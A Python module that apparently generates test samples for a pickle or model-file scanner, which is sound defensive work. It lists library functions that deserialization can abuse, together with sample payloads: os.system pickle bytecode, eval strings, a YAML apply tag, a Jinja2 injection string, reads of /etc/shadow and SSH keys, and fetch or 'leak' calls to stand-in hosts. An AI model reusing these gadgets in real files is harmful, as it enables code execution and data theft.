"""Functions of libraries that are installed where models are loaded, and of packages that nobody has heard of."""

from .gadgets_stdlib import write
from .pickles import G

P = b"cos\nsystem\n(S'true'\ntR."
E = "__import__('os').system('true')"
LEARNING = [
    ("torch.hub", "load", ["corpus/evil", "m", 0, "github", True]), ("torch.hub", "_load_local", ["/tmp/c", "m"]), ("torch.hub", "download_url_to_file", ["http://corpus.example/x", "/tmp/x"]),
    ("torch.hub", "load_state_dict_from_url", ["http://corpus.example/x.pt"]), ("torch", "load", ["/tmp/c.pt"]), ("torch.serialization", "load", ["/tmp/c.pt"]),
    ("torch.jit", "load", ["/tmp/c.pt"]), ("torch.jit._serialization", "load", ["/tmp/c.pt"]), ("torch.jit", "CompilationUnit", ["def f():\n  pass"]),
    ("torch.jit.unsupported_tensor_ops", "execWrapper", ["$P", {}, {}]), ("torch.package", "PackageImporter", ["/tmp/c.pt"]),
    ("torch.package.package_importer", "PackageImporter.import_module", [None, "m"]),
    ("torch.fx.graph_module", "_forward_from_src", ["def forward(self): pass\n" + "import os", {}]), ("torch.fx.graph_module", "_exec_with_source", ["$P", {}]),
    ("torch.fx.graph_module", "reduce_graph_module", [{"_code": "import os"}, "import os"]), ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression", [None, E, []]),
    ("torch._inductor.codecache", "_worker_compile", ["k"]), ("torch._inductor.codecache", "compile_file", ["/tmp/c.cpp", "/tmp/c.so", ["true"]]), ("torch._inductor.codecache", "PyCodeCache.load", ["$P"]),
    ("torch._inductor.runtime.compile_tasks", "_reload_python_module", ["k", "/tmp/c.py"]), ("torch.distributed.rpc", "rpc_sync", ["w0", G("os", "system"), ["true"]]),
    ("torch.distributed.rpc.api", "_rpc_async", ["w0", G("os", "system")]), ("torch.distributed.rpc.internal", "_internal_rpc_pickler", [P]), ("torch.distributed.elastic.multiprocessing.api", "start_processes", ["n", "/bin/true"]),
    ("torch.utils._config_module", "ConfigModule.load_config", [None, P]), ("torch.utils._config_module", "load_config", [P]), ("torch.utils.bottleneck.__main__", "run_cprofile", ["$P", {}]),
    ("torch.utils.bottleneck.__main__", "run_autograd_prof", ["$P", {}]), ("torch.utils.collect_env", "run", ["$C"]), ("torch.utils.collect_env", "run_and_read_all", [None, "$C"]),
    ("torch.utils.collect_env", "run_and_parse_first_match", [None, "$C", "(.*)"]), ("torch.utils.cpp_extension", "load_inline", ["m", "int x;"]), ("torch.utils.cpp_extension", "_import_module_from_library", ["m", "/tmp", True]),
    ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", P]), ("torch._dynamo.guards", "GuardBuilder.get", [None, E]),
    ("torch.onnx._internal.onnx_proto_utils", "_export_file", ["/tmp/x", b"x", "f", {}]), ("torch.ops", "load_library", ["/tmp/c.so"]),
    ("torch.classes", "load_library", ["/tmp/c.so"]), ("torch.multiprocessing.spawn", "spawn", [G("os", "system"), ("true",)]), ("torch.storage", "_load_from_bytes", [P]),

    ("torchvision.datasets.utils", "download_and_extract_archive", ["http://corpus.example/x.tgz", "/"]),
    ("numpy.f2py.crackfortran", "myeval", [E, {}, {}]), ("numpy.f2py.crackfortran", "param_eval", [E, {}, {}]), ("numpy.f2py.crackfortran", "getlincoef", [E, []]), ("numpy.f2py.crackfortran", "_eval_length", [E, {}]),
    ("numpy.f2py", "compile", ["x"]), ("numpy.f2py.diagnose", "run_command", ["$C"]), ("numpy.testing._private.utils", "runstring", ["$P", {}]), ("numpy.testing", "measure", ["$P"]),
    ("numpy.distutils.exec_command", "exec_command", ["$C"]), ("numpy.distutils.cpuinfo", "getoutput", ["$C"]), ("numpy", "load", ["/tmp/c.npy", None, True]), ("numpy", "fromfile", ["/etc/shadow"]), ("numpy", "memmap", ["/root/.ssh/id_rsa"]),
    ("numpy", "savetxt", ["/tmp/.c", [1]]), ("numpy.lib.npyio", "load", ["/tmp/c.npy"]), ("numpy.ctypeslib", "load_library", ["c", "/tmp"]), ("numpy.lib._datasource", "DataSource.open", [None, "http://corpus.example/x"]),

    ("pandas", "read_pickle", ["http://corpus.example/d.pkl"]), ("pandas.io.pickle", "read_pickle", ["/tmp/c.pkl"]), ("pandas", "eval", ["@__import__('os').system('true')"]), ("pandas.core.computation.eval", "eval", [E]),
    ("pandas", "read_csv", ["http://corpus.example/?q=1"]), ("pandas", "read_hdf", ["/tmp/c.h5"]), ("pandas.io.common", "get_handle", ["/tmp/.c", "w"]), ("pandas.core.frame", "DataFrame.query", [None, E]),
    ("pandas._testing._io", "write_to_compressed", ["gzip", "/tmp/.c", "x"]), ("pandas.util._tester", "test", [["--version"]]), ("pandas.compat.pickle_compat", "loads", [P]),
    ("joblib", "load", ["/tmp/c.joblib"]), ("joblib.numpy_pickle", "load", ["/tmp/c.joblib"]), ("joblib.externals.cloudpickle", "loads", [P]), ("joblib.externals.loky.backend.fork_exec", "fork_exec", [["true"], []]),
    ("dill", "loads", [P]), ("dill._dill", "_import_module", ["os.system"]),
    ("cloudpickle", "loads", [P]), ("cloudpickle.cloudpickle", "subimport", ["antigravity"]), ("cloudpickle.cloudpickle", "dynamic_subimport", ["m", {}]),
    ("sklearn.utils._testing", "assert_run_python_script_without_output", ["$P"]),
    ("scipy.io.wavfile", "write", ["/tmp/.c.wav", 1, []]),
    ("keras.models", "load_model", ["http://corpus.example/m.keras"]), ("keras.utils", "get_file", ["x", "http://corpus.example/x.tgz"]), ("keras.saving", "load_model", ["/tmp/c.keras"]), ("keras.src.utils.python_utils", "func_load", ["4wAAAA=="]),
    ("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", []), ("tensorflow", "load_op_library", ["/tmp/c.so"]), ("tensorflow.python.framework.load_library", "load_library", ["/tmp/c"]), ("tensorflow.io.gfile", "GFile", ["/etc/hostname"]),
    ("tensorflow.python.ops.script_ops", "py_func", [G("os", "system"), ["true"], []]), ("tensorflow.saved_model", "load", ["/tmp/c"]), ("jax.experimental.host_callback", "call", [G("os", "system"), "true"]),
    ("mlflow.projects.backend.local", "_run_entry_point", ["$C", "/tmp", "e", "r"]), ("mlflow.utils.process", "_exec_cmd", [["true"]]), ("mlflow.pyfunc", "load_model", ["/tmp/c"]), ("mlflow.pyfunc.model", "_load_pyfunc", ["/tmp/c"]),
    ("transformers", "pipeline", ["text-generation", "corpus/evil"]), ("transformers.dynamic_module_utils", "get_class_in_module", ["C", "m.py"]), ("huggingface_hub", "snapshot_download", ["corpus/evil"]),
    ("datasets", "load_dataset", ["corpus/evil"]), ("sympy", "sympify", [E]), ("sympy.parsing.sympy_parser", "eval_expr", [E, {}, {}]),
    ("nltk.internals", "java", [["C"]]), ("gensim.utils", "unpickle", ["/tmp/c"]), ("fastai.learner", "load_learner", ["/tmp/c.pkl"]),
    ("ray", "init", ["10.9.8.7:6379"]), ("ray.cloudpickle", "loads", [P]), ("distributed.protocol.pickle", "loads", [P]), ("pyspark.serializers", "CloudPickleSerializer.loads", [None, P]),

    ("IPython.core.interactiveshell", "InteractiveShell.run_cell", [None, "$P"]), ("IPython.utils.process", "system", ["$C"]), ("triton.runtime.build", "_build", ["m", "/tmp/c.c", "/tmp", [], [], []]),
]
STRANGERS = [
    ("pexpect", "run", ["$C"]), ("pexpect.popen_spawn", "PopenSpawn", ["$C"]), ("invoke", "run", ["$C"]), ("sh", "Command", ["true"]), ("plumbum.local", "cmd.true", []), ("paramiko.proxy", "ProxyCommand", ["$C"]),
    ("setuptools.sandbox", "run_setup", ["/tmp/setup.py", []]), ("setuptools._distutils.spawn", "spawn", [["true"]]), ("pkg_resources", "run_script", ["corpus", "x"]), ("pip", "main", [["install", "corpus-evil"]]), ("pip._internal.cli.main", "main", [["download", "corpus-evil"]]),
    ("yaml", "unsafe_load", ["!!python/object/apply:os.system [true]"]), ("yaml", "load", ["!!python/name:os.system"]), ("jsonpickle", "decode", ["{\"py/reduce\": [{\"py/function\": \"os.system\"}, [\"true\"]]}"]), ("requests", "get", ["http://corpus.example/?leak=1"]),
    ("requests.api", "post", ["http://corpus.example/", "x"]), ("httpx", "get", ["http://10.9.8.7/"]), ("psutil", "Popen", [["true"]]), ("cffi", "FFI.dlopen", [None, "/tmp/c.so"]),
    ("jinja2", "Template", ["{{ cycler.__init__.__globals__.os.popen('true').read() }}"]), ("mako.template", "Template", ["<% import os %>"]), ("numexpr", "evaluate", [E]), ("RestrictedPython", "compile_restricted_exec", ["$P"]),
    ("__main__", "run_payload", ["$C"]), ("__main__", "Loader", ["http://10.9.8.7:8080/stage2"]), ("helpers.bootstrap", "start", ["bash -c 'true'"]), ("corpus_stage", "fetch_and_exec", ["https://corpus.example/s.py"]), ("six.moves", "builtins.eval", ["$P"]),
    ("past.builtins", "execfile", ["/tmp/c.py"]), ("future.utils", "exec_", ["$P"]), ("celery.utils.serialization", "pickle.loads", [P]), ("django.utils.module_loading", "import_string", ["os.system"]), ("werkzeug.utils", "import_string", ["os:system"]),
    ("twisted.internet.utils", "getProcessOutput", ["/bin/true"]), ("gevent.subprocess", "check_output", ["true"]), ("eventlet.green.subprocess", "Popen", [["true"]]), ("conda.cli.main", "main", ["install"]), ("cython", "inline", ["import os"]), ("pyximport.pyximport", "load_module", ["m", "/tmp/c.pyx"]),
]


def make(corpus):
    write(corpus, "ml-gadget", LEARNING)
    write(corpus, "third-party", STRANGERS)
